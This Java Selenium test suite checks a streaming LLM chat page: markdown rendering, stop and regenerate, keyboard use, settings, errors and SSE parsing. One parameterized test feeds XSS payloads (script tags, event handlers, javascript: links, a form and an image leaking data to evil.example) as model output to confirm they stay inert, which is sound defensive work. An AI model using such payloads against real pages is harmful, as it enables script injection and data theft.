package dev.sluice.test.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.support.ui.WebDriverWait;
import tools.jackson.databind.JsonNode;

/**
 * The chat page as a person meets it, in a real Chromium under the page's security policy. The
 * scripted server has no socket, so every answer here comes by server-sent events.
 */
class ChatPageIT {

  private static final Duration PATIENCE = Duration.ofSeconds(15);

  @TempDir static Path profile;
  private static ChromeDriver browser;

  private ScriptedServer server;
  private WebDriverWait wait;

  @BeforeAll
  static void openBrowser() {
    browser = Chromium.open(profile);
  }

  @AfterAll
  static void closeBrowser() {
    if (browser != null) browser.quit();
  }

  @BeforeEach
  void openPage() {
    server = new ScriptedServer();
    wait = new WebDriverWait(browser, PATIENCE, Duration.ofMillis(25));
    browser.manage().logs().get(LogType.BROWSER);
    colorScheme("light");
    windowSize(1280, 860, false);
    browser.get(server.uri().toString());
    waitForState("ready");
  }

  /** Whatever a test did, the page broke neither its policy nor a script. */
  @AfterEach
  void pageStayedClean() {
    Object violations = browser.executeScript("return window.policyViolations");
    List<String> complaints =
        browser.manage().logs().get(LogType.BROWSER).getAll().stream()
            .map(entry -> entry.getMessage())
            .filter(message -> !message.contains("Failed to load resource"))
            .filter(message -> !message.contains("WebSocket connection to")) // it has none
            .toList();
    server.close();
    assertThat(violations).isEqualTo(List.of());
    assertThat(complaints).isEmpty();
  }

  @Test
  void answer_arrivesInPieces_isRenderedWhileItGrows() throws Exception {
    CountDownLatch rest = new CountDownLatch(1);
    server.answerWith(answer ->
        answer
            .tokens("## Gates\n\nWater comes **on demand**.\n\n- one\n- tw")
            .await(rest)
            .tokens("o\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n")
            .finish("stop"));
    ask("What is a sluice?");
    waitForText(".prose li:last-child", "tw");
    assertThat(find(".prose h2").getText()).isEqualTo("Gates");
    assertThat(find(".prose strong").getText()).isEqualTo("on demand");
    assertThat(find(".message-answer").getDomAttribute("aria-busy")).isEqualTo("true");
    assertThat(find("#send").getDomAttribute("aria-label")).isEqualTo("Stop");

    rest.countDown();
    waitUntilIdle();
    assertThat(find(".prose li:last-child").getText()).isEqualTo("two");
    assertThat(find(".prose td:last-child").getDomAttribute("align")).isEqualTo("right");
    assertThat(find(".figures").getText())
        .matches(
            "(?s)\\d+ tokens · \\S+ tok/s · first after \\d+ ms · prompt %d tokens"
                .formatted(ScriptedServer.PROMPT_TOKENS));
  }

  @Test
  void codeBlock_knownLanguage_isHighlightedAndCopied() {
    String code = "def reverse(text):\n    return text[::-1]";
    server.answerWith(
        answer -> answer.tokens("Here:\n\n```python\n" + code + "\n```\n\nDone.").finish("stop"));
    ask("Reverse a string");
    waitUntilIdle();
    assertThat(find("figure.code .hljs-keyword").getText()).isEqualTo("def");
    assertThat(find("figure.code figcaption span").getText()).isEqualTo("python");
    browser.executeScript(
        "Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (text) => { window.copied = text; } } });");

    find("figure.code .copy").click();
    wait.until(page -> browser.executeScript("return window.copied") != null);
    assertThat(browser.executeScript("return window.copied")).isEqualTo(code);
    waitForText("figure.code .copy", "Copied");
  }

  @Test
  void stop_clickedMidAnswer_abortsTheRequestAndKeepsTheText() throws Exception {
    CountDownLatch aborted = new CountDownLatch(1);
    server.answerWith(answer -> answer.tokens("Once upon a time").awaitAbort(aborted));
    ask("Tell a story");
    waitForText(".prose", "Once upon a time");

    find("#send").click();
    assertThat(aborted.await(10, TimeUnit.SECONDS)).as("the server saw the request end").isTrue();
    waitUntilIdle();
    assertThat(find(".prose").getText()).isEqualTo("Once upon a time");
    assertThat(find(".figures").getText()).startsWith("stopped");
    assertThat(all(".problem")).isEmpty();
  }

  @Test
  void keyboard_alone_isEnough() throws Exception {
    CountDownLatch aborted = new CountDownLatch(1);
    server.answerWith(
        answer -> answer.token("Endless").awaitAbort(aborted),
        answer -> answer.token("Edited.").finish("stop"));
    assertThat(focusedId()).isEqualTo("prompt");
    type("first line", Keys.chord(Keys.SHIFT, Keys.ENTER), "second line", Keys.ENTER);
    JsonNode asked = server.takeRequest().body();
    assertThat(asked.at("/messages/0/content").asString()).isEqualTo("first line\nsecond line");

    waitForText(".prose", "Endless");
    type(Keys.ESCAPE);
    assertThat(aborted.await(10, TimeUnit.SECONDS)).isTrue();
    waitUntilIdle();

    type(Keys.ARROW_UP);
    wait.until(page -> find("#editing").isDisplayed());
    type(Keys.chord(Keys.CONTROL, "a"), "other words", Keys.ENTER);
    JsonNode edited = server.takeRequest().body();
    assertThat(edited.get("messages").size()).isEqualTo(1);
    assertThat(edited.at("/messages/0/content").asString()).isEqualTo("other words");
    waitForText(".prose", "Edited.");
    waitUntilIdle();

    type(Keys.chord(Keys.CONTROL, Keys.SHIFT, "o"));
    wait.until(page -> find(".empty").isDisplayed());
    assertThat(focusedId()).isEqualTo("prompt");
  }

  @Test
  void controls_all_haveNamesAndVisibleFocus() {
    assertThat(
            browser.executeScript(
                """
                return [...document.querySelectorAll("button, input, textarea, select")]
                  .filter((node) => !(node.ariaLabel || node.textContent.trim() || node.labels?.length))
                  .map((node) => node.outerHTML);
                """))
        .isEqualTo(List.of());
    type(Keys.chord(Keys.SHIFT, Keys.TAB));
    assertThat(
            browser.executeScript("return getComputedStyle(document.activeElement).outlineStyle"))
        .isEqualTo("solid");
  }

  @Test
  void regenerate_afterAnAnswer_asksAgainWithoutIt() throws Exception {
    server.answerWith(
        answer -> answer.token("First.").finish("stop"),
        answer -> answer.token("Second.").finish("stop"));
    ask("Say something");
    waitUntilIdle();
    server.takeRequest();
    find("[aria-label='Regenerate answer']").click();
    waitForText(".prose", "Second.");
    assertThat(server.takeRequest().body().get("messages").size()).isEqualTo(1);
    assertThat(all(".message-answer")).hasSize(1);
  }

  @Test
  void settings_changed_areSentAndSurviveAReload() throws Exception {
    find("#open-settings").click();
    fill("#setting-system", "Be brief.");
    fill("#setting-temperature", "0.2");
    fill("#setting-top_k", "40");
    fill("#setting-seed", "7");
    fill("#setting-top_p", "5");
    fill("#setting-max_tokens", "99");
    fill("#setting-min_p", "");
    type(Keys.ESCAPE);
    browser.navigate().refresh();
    waitForState("ready");
    ask("Hi");
    JsonNode body = server.takeRequest().body();
    assertThat(body.at("/messages/0/role").asString()).isEqualTo("system");
    assertThat(body.at("/messages/0/content").asString()).isEqualTo("Be brief.");
    assertThat(body.get("temperature").asDouble()).isEqualTo(0.2);
    assertThat(body.get("top_k").asInt()).isEqualTo(40);
    assertThat(body.get("seed").asInt()).isEqualTo(7);
    assertThat(body.get("top_p").asDouble()).as("brought into its range").isEqualTo(1.0);
    assertThat(body.get("max_tokens").asInt()).isEqualTo(99);
    assertThat(body.has("min_p")).as("left to the server").isFalse();
    assertThat(body.get("stream").asBoolean()).isTrue();
    assertThat(body.at("/stream_options/include_usage").asBoolean()).isTrue();
    assertThat(body.get("model").asString()).isEqualTo("SmolLM2-135M-Instruct");

    waitUntilIdle();
    find("#open-settings").click();
    find("#reset-settings").click();
    assertThat(find("#setting-temperature").getDomProperty("value")).isEqualTo("0.7");
    assertThat(find("#setting-system").getDomProperty("value")).isEmpty();
  }

  @Test
  void conversation_reloaded_isStillThereAndGoesOn() throws Exception {
    server.answerWith(
        answer -> answer.tokens("A **gate**.").finish("stop"),
        answer -> answer.token("Yes.").finish("stop"));
    ask("What is a sluice?");
    waitUntilIdle();
    browser.navigate().refresh();
    waitForState("ready");
    assertThat(find(".bubble").getText()).isEqualTo("What is a sluice?");
    assertThat(find(".prose strong").getText()).isEqualTo("gate");

    server.takeRequest();
    ask("Really?");
    waitUntilIdle();
    JsonNode messages = server.takeRequest().body().get("messages");
    assertThat(messages.valueStream().map(message -> message.get("content").asString()).toList())
        .containsExactly("What is a sluice?", "A **gate**.", "Really?");
  }

  @Test
  void sidebar_newRenameDeleteUndo_keepTheChatsInOrder() {
    ask("The first chat");
    waitUntilIdle();
    find("#new-chat").click();
    wait.until(page -> find(".empty").isDisplayed());
    ask("The second chat");
    waitUntilIdle();
    assertThat(chatTitles()).containsExactly("The second chat", "The first chat");

    press("Rename “The first chat”");
    fill(".chat-rename", "Renamed");
    type(Keys.ENTER);
    assertThat(chatTitles()).containsExactly("The second chat", "Renamed");

    press("Delete “The second chat”");
    assertThat(chatTitles()).containsExactly("Renamed");
    wait.until(page -> find(".empty").isDisplayed());
    find("#toast button").click();
    assertThat(chatTitles()).containsExactly("The second chat", "Renamed");
    assertThat(find(".bubble").getText()).isEqualTo("The second chat");
  }

  @Test
  void deletedChat_whoseAnswerIsInTheMaking_staysDeleted() throws Exception {
    CountDownLatch aborted = new CountDownLatch(1);
    server.answerWith(answer -> answer.token("Going on").awaitAbort(aborted));
    ask("Unwanted");
    waitForText(".prose", "Going on");
    press("Delete “Unwanted”");
    assertThat(aborted.await(10, TimeUnit.SECONDS)).isTrue();
    waitUntilIdle();
    assertThat(chatTitles()).isEmpty();
  }

  @Test
  void error_midAnswer_isShownUnderWhatCame() {
    server.answerWith(
        answer -> answer.tokens("Half an ans").fail("The logits are not numbers.", "nan_logits"),
        answer -> answer.token("Whole.").finish("stop"));
    ask("Go on");
    waitUntilIdle();
    assertThat(find(".prose").getText()).isEqualTo("Half an ans");
    assertThat(find(".problem").getText())
        .contains("The answer broke off", "The logits are not numbers.");
    find(".problem button").click();
    waitForText(".prose", "Whole.");
    waitUntilIdle();
    assertThat(all(".problem")).isEmpty();
  }

  @Test
  void connection_lostMidAnswer_isSaidAndTheTextKept() {
    server.answerWith(answer -> answer.tokens("Cut sho"));
    ask("Go on");
    waitUntilIdle();
    assertThat(find(".prose").getText()).isEqualTo("Cut sho");
    assertThat(find(".problem").getText()).contains("The connection was lost");
  }

  @Test
  void server_gone_isSaidAndNoticed() {
    server.close();
    ask("Anyone?");
    waitUntilIdle();
    assertThat(find(".problem").getText()).contains("The server cannot be reached.");
    waitForState("offline");
  }

  @Test
  void queueFull_429_showsTheServersWordsAndTheWait() {
    server.answerWith(answer ->
        answer.refuse(
            429, ScriptedServer.error("64 requests wait.", "queue_full"), "Retry-After", "30"));
    ask("Hello");
    waitUntilIdle();
    assertThat(find(".problem").getText()).contains("The server is busy", "64 requests wait.");
    assertThat(find(".problem button").getText()).matches("Try again \\(best in (30|29|28) s\\)");
  }

  @Test
  void badRequest_400_showsTheServersWords() {
    server.answerWith(answer ->
        answer.refuse(400, ScriptedServer.error("9000 exceeds 8192.", "context_length_exceeded")));
    ask("A long one");
    waitUntilIdle();
    assertThat(find(".problem").getText())
        .contains("This chat has grown too long for the model", "9000 exceeds 8192.");
  }

  @Test
  void serverWithKey_401_asksOnceAndSendsItFromThenOn() throws Exception {
    server.requireKey("sesame");
    server.answerWith(answer -> answer.token("Open.").finish("stop"));
    ask("Let me in");
    wait.until(page -> find("#key-dialog").isDisplayed());
    type("sesame", Keys.ENTER);
    waitForText(".prose", "Open.");
    assertThat(server.takeRequest().authorization()).isEqualTo("Bearer sesame");
    assertThat(evaluate("JSON.stringify(localStorage)").toString()).doesNotContain("sesame");
  }

  @Test
  void loading_503_isShownUntilTheModelIsReady() {
    server.healthIs(503, "loading");
    browser.navigate().refresh();
    waitForState("loading");
    assertThat(find("#banner").getText()).contains("loading");
    type("Early bird", Keys.ENTER);
    assertThat(all(".bubble")).isEmpty();
    assertThat(find("#prompt").getDomProperty("value")).isEqualTo("Early bird");

    server.healthIs(200, "ok");
    waitForState("ready");
    type(Keys.ENTER);
    waitForText(".bubble", "Early bird");
    waitUntilIdle();
  }

  @Test
  void modelThatFailedToLoad_isSaidAndNothingSent() {
    server.healthIs(503, "failed");
    browser.navigate().refresh();
    waitForState("failed");
    assertThat(find("#banner").getText()).contains("could not load its model");
    find(".example").click();
    assertThat(all(".bubble")).isEmpty();
  }

  @Test
  void comment_withText_isShownAsWaiting() {
    CountDownLatch turn = new CountDownLatch(1);
    server.answerWith(
        answer -> answer.comment("queued position=3").await(turn).token("Now.").finish("stop"));
    ask("My turn?");
    waitForText(".waiting", "In the queue, #3");
    turn.countDown();
    waitForText(".prose", "Now.");
    waitUntilIdle();
    assertThat(find(".waiting").isDisplayed()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>window.owned = 1</script>",
        "<img src=x onerror=\"window.owned = 1\">",
        "text <svg onload=\"window.owned=1\"><script>window.owned=1</script></svg> text",
        "<iframe srcdoc=\"<script>parent.owned = 1</script>\"></iframe>",
        "<style>body { display: none }</style>",
        "<p style=\"position:fixed;inset:0\" id=\"prompt\" onclick=\"owned=1\">cover</p>",
        "<form action=\"https://evil.example\"><input name=\"key\"><button>Go</button></form>",
        "<base href=\"https://evil.example/\"><link rel=stylesheet href=//evil.example/a.css>",
        "[press](javascript:window.owned=1) <javascript:window.owned=1>",
        "[press](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:a) [y](/v1/models)",
        "![leak](https://evil.example/?q=secret) ![local](/health)",
        "```html\" onmouseover=\"window.owned=1\n<script>window.owned=1</script>\n```",
        "`<img src=x onerror=window.owned=1>` | <b onmouseover=window.owned=1>x</b>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.owned=1&gt;\">",
        "[a](https://e.example \"onmouseover=&quot;window.owned=1\") <details open ontoggle=window.owned=1>",
        "<b><i><u>never closed"
      })
  void hostileMarkup_inAnAnswer_isInert(String payload) {
    server.answerWith(
        answer -> answer.tokens(payload + "\n\nafter").finish("stop"),
        answer -> answer.token("still here").finish("stop"));
    ask("Attack me");
    waitUntilIdle();
    assertThat(browser.executeScript("return window.owned ?? null")).isNull();
    assertThat(
            browser.executeScript(
                """
                const prose = document.querySelector(".prose");
                const made = ":not(figure.code, figure.code *, .table-frame)";
                return [...prose.querySelectorAll("*")].flatMap((node) => [
                  ...(/^(script|img|svg|iframe|style|form|base|link|math|details|object|input)$/i.test(node.tagName)
                    && !node.closest("figure.code") ? [node.tagName] : []),
                  ...[...node.attributes].filter(({ name }) => /^on|^style$|^src|^id$|^name$/.test(name)).map(({ name }) => name),
                  ...(node.href && !/^(https?|mailto):/.test(node.getAttribute("href")) ? [node.href] : []),
                ]);
                """))
        .isEqualTo(List.of());
    assertThat(all(".prose > p:last-child")).last().matches(p -> p.getText().equals("after"));
    assertThat(all(".prose > p:last-child b, .prose > p:last-child i")).isEmpty();
    ask("Still there?");
    waitForText(".message-answer:last-child .prose", "still here");
    waitUntilIdle();
  }

  @Test
  void theme_systemDarkAndToggle_changeThePage() {
    String light = background();
    colorScheme("dark");
    wait.until(page -> !background().equals(light));
    find("#toggle-theme").click();
    assertThat(background()).isEqualTo(light);
    browser.navigate().refresh();
    waitForState("ready");
    assertThat(background()).as("the choice is kept").isEqualTo(light);
    find("#toggle-theme").click();
    assertThat(background()).isNotEqualTo(light);
  }

  @Test
  void phone_width_fitsAndOpensTheListAsADrawer() {
    windowSize(360, 740, true);
    server.answerWith(answer ->
        answer
            .tokens("| a | b | c | d |\n|---|---|---|---|\n| " + "wide ".repeat(9) + "| | | |\n\n")
            .tokens("```\n" + "x".repeat(200) + "\n```\n\n" + "y".repeat(200))
            .finish("stop"));
    ask("Something wide");
    waitUntilIdle();
    assertThat(
            browser.executeScript(
                "const s = document.getElementById('scroller');"
                    + "return [document.documentElement.scrollWidth, s.scrollWidth - s.clientWidth]"))
        .isEqualTo(List.of(360L, 0L));
    assertThat(find("#sidebar").isDisplayed()).isFalse();
    find("#toggle-sidebar").click();
    wait.until(page -> find("#new-chat").isDisplayed());
    type(Keys.ESCAPE);
    wait.until(page -> !find("#sidebar").isDisplayed());
  }

  @Test
  void scrolling_upWhileItAnswers_isLeftAlone() {
    CountDownLatch more = new CountDownLatch(1);
    server.answerWith(answer ->
        answer.tokens("A line.\n\n".repeat(80)).await(more).tokens("Last.\n\n").finish("stop"));
    ask("At length");
    wait.until(page -> all(".prose p").size() == 80);
    wait.until(page -> distanceToEnd() < 2);
    browser.executeScript("document.getElementById('scroller').scrollTop = 100");
    wait.until(page -> find("#latest").isDisplayed());

    more.countDown();
    waitUntilIdle();
    assertThat(browser.executeScript("return document.getElementById('scroller').scrollTop"))
        .isEqualTo(100L);
    find("#latest").click();
    wait.until(page -> distanceToEnd() < 2);
    assertThat(find("#latest").isDisplayed()).isFalse();
  }

  @Test
  void severalModels_listed_canBeChosen() throws Exception {
    server.modelsAre("{\"data\":[{\"id\":\"small\"},{\"id\":\"large\"}]}");
    browser.navigate().refresh();
    waitForState("ready");
    find("#model-choice option[value='large']").click();
    find("#prompt").click();
    ask("Hi");
    assertThat(server.takeRequest().body().get("model").asString()).isEqualTo("large");
    waitUntilIdle();
  }

  /** Every way to cut a stream in two, and byte by byte: lines, CRLF and UTF-8 included. */
  @Test
  void eventStream_cutAnywhere_givesTheSameEvents() {
    Object results =
        browser.executeAsyncScript(
            """
            const done = arguments[0];
            import("/assets/sse.js").then(async ({ readEvents }) => {
              const text = "\\uFEFF: queued\\r\\n\\r\\ndata: gr\\u00fc\\u00df \\ud83c\\udf0a\\r\\ndata:two\\n\\n"
                + "event: x\\rid: 1\\rdata\\r\\r:\\n\\nretry: 5\\ndata:  {}\\n\\n\\n\\ndata: cut off";
              const bytes = new TextEncoder().encode(text);
              const run = async (chunks) => {
                const items = [];
                const stream = new ReadableStream({
                  start(c) { chunks.forEach((chunk) => c.enqueue(chunk)); c.close(); } });
                for await (const item of readEvents(stream)) items.push(item);
                return JSON.stringify(items);
              };
              const found = new Set([await run([...bytes].map((byte) => Uint8Array.of(byte)))]);
              for (let i = 0; i <= bytes.length; i++) found.add(await run([bytes.slice(0, i), bytes.slice(i)]));
              done([...found]);
            }).catch((error) => done([String(error)]));
            """);
    assertThat(results)
        .isEqualTo(
            List.of(
                "[{\"kind\":\"comment\",\"text\":\"queued\"},"
                    + "{\"kind\":\"event\",\"event\":\"message\",\"data\":\"grüß 🌊\\ntwo\"},"
                    + "{\"kind\":\"event\",\"event\":\"x\",\"data\":\"\"},"
                    + "{\"kind\":\"comment\",\"text\":\"\"},"
                    + "{\"kind\":\"event\",\"event\":\"message\",\"data\":\" {}\"}]"));
  }

  /**
   * A block is settled only when later text cannot change it, so streaming ends as loading does.
   */
  @Test
  void markdown_streamedByTheCharacter_endsAsIfRenderedAtOnce() {
    Object pairs =
        browser.executeAsyncScript(
            """
            const done = arguments[0];
            const samples = [
              "1. one\\n\\n2. two\\n\\n   more\\n\\n10. ten\\n\\ntext\\n",
              "- a\\n  - b\\n\\n  c\\n- d\\n\\n* other\\n",
              "Title\\n=====\\n\\ntext\\ntext\\n---\\n***\\n> quote\\nlazy\\n\\n> more",
              "a | b\\n---|:-:\\n1 | 2<br>3\\n\\nnext",
              "```js\\nlet a;\\n\\n```\\n~~~\\n```\\n~~~\\nend\\r\\n\\r\\nlast",
              "[see][x] and\\n\\n[x]: https://example.org\\n\\n[x] again <b>bold</b> <i>open",
              "    indented\\n\\n    still\\n\\n<div>\\n\\nin\\n\\n</div>\\n\\n- [x] done\\n- [ ] not",
              "```\\n" + "long line of code\\n".repeat(600) + "```\\n\\n" + "- item\\n".repeat(900) + "\\nend",
            ];
            import("/assets/markdown.js").then(({ MarkdownStream, renderMarkdown }) => {
              done(samples.map((text) => {
                const whole = document.createElement("div");
                renderMarkdown(whole, text);
                const grown = document.createElement("div");
                const stream = new MarkdownStream(grown);
                const step = text.length > 1000 ? 7 : 1;
                for (let i = 0; i < text.length; i += step) { stream.append(text.slice(i, i + step)); stream.render(); }
                stream.finish();
                return [grown.innerHTML, whole.innerHTML];
              }));
            }).catch((error) => done([[String(error), ""]]));
            """);
    assertThat((List<?>) pairs)
        .allSatisfy(pair -> {
          List<?> grownAndWhole = (List<?>) pair;
          assertThat(grownAndWhole.get(0)).isEqualTo(grownAndWhole.get(1));
        });
  }

  /** Quadratic work would take minutes here; linear work takes about a second. */
  @Test
  void markdown_veryLongBlock_isRenderedInLinearWork() {
    browser.manage().timeouts().scriptTimeout(Duration.ofSeconds(30));
    Object millis =
        browser.executeAsyncScript(
            """
            const done = arguments[0];
            import("/assets/markdown.js").then(({ MarkdownStream }) => {
              const started = performance.now();
              const stream = new MarkdownStream(document.createElement("div"));
              stream.append("```\\n");
              for (let i = 0; i < 40_000; i++) { stream.append("let x = 1;\\n"); stream.render(); }
              stream.finish();
              done(performance.now() - started);
            }).catch((error) => done(String(error)));
            """);
    assertThat(millis).isInstanceOf(Number.class);
    assertThat(((Number) millis).doubleValue()).isLessThan(20_000);
  }

  private void ask(String text) {
    type(text, Keys.ENTER);
  }

  private void type(CharSequence... keys) {
    browser.switchTo().activeElement().sendKeys(keys);
  }

  private void fill(String selector, String text) {
    WebElement field = find(selector);
    field.sendKeys(Keys.chord(Keys.CONTROL, "a"), Keys.BACK_SPACE, text);
  }

  // The row's buttons show on hover, which a synthetic click does not need.
  private void press(String label) {
    browser.executeScript(
        "[...document.querySelectorAll('button')].find((b) => b.ariaLabel === arguments[0]).click()",
        label);
  }

  private WebElement find(String selector) {
    return browser.findElement(By.cssSelector(selector));
  }

  private List<WebElement> all(String selector) {
    return browser.findElements(By.cssSelector(selector));
  }

  private List<String> chatTitles() {
    return all(".chat-open").stream().map(WebElement::getText).toList();
  }

  private void waitForText(String selector, String text) {
    wait.until(page -> all(selector).stream().anyMatch(node -> node.getText().equals(text)));
  }

  private void waitUntilIdle() {
    wait.until(page ->
        Boolean.TRUE.equals(
            browser.executeScript(
                "return document.body.dataset.running === 'false'"
                    + " && !document.querySelector('[aria-busy]')")));
  }

  private void waitForState(String state) {
    wait.until(page -> state.equals(find("#model").getDomAttribute("data-state")));
  }

  private Object focusedId() {
    return evaluate("document.activeElement.id");
  }

  private String background() {
    return evaluate("getComputedStyle(document.body).backgroundColor").toString();
  }

  private double distanceToEnd() {
    browser.executeScript("window.scroller = document.getElementById('scroller')");
    Object distance =
        evaluate("scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight");
    return ((Number) distance).doubleValue();
  }

  private static Object evaluate(String expression) {
    return Objects.requireNonNull(browser.executeScript("return " + expression), expression);
  }

  private void colorScheme(String scheme) {
    Map<String, String> feature = Map.of("name", "prefers-color-scheme", "value", scheme);
    browser.executeCdpCommand("Emulation.setEmulatedMedia", Map.of("features", List.of(feature)));
  }

  private void windowSize(int width, int height, boolean mobile) {
    browser.executeCdpCommand(
        "Emulation.setDeviceMetricsOverride",
        Map.of("width", width, "height", height, "deviceScaleFactor", 1, "mobile", mobile));
  }
}
